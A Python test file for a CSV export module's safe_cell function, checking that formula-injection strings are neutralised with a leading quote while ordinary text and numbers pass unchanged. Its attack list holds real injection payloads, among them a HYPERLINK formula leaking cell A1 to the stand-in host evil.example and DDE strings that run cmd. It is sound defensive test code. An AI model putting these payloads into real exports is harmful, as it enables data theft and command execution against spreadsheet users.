"""Spreadsheet formula injection: every exported text cell that a spreadsheet would run is neutralised."""

import csv
import io
from decimal import Decimal

import pytest

from telora.core.exports import csv_writer, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-A1", "+"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_beginning_with_a_formula_trigger_gets_a_quote(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Mobile 10 GB", "", "a=b", "C-1001", "1+1", "INV-2026-000123", "São Paulo"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-4.98"), -5, 0, Decimal("12.500000")])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", ["-4.98", "+45 20 00 00 01", "-1,000.50", "+3"])
def test_a_signed_number_or_phone_number_in_text_stays_as_written(value):
    assert safe_cell(value) == value


def test_none_and_bools_become_text():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting():
    stream = io.StringIO(newline="")
    writer = csv_writer(stream)
    writer.writerow(["name", "amount"])
    writer.writerows([['=HYPERLINK("http://evil.example")', Decimal("-4.98")], ["Ann, \"the\" CSR", -1]])
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert rows == [["name", "amount"], ["'=HYPERLINK(\"http://evil.example\")", "-4.98"], ['Ann, "the" CSR', "-1"]]
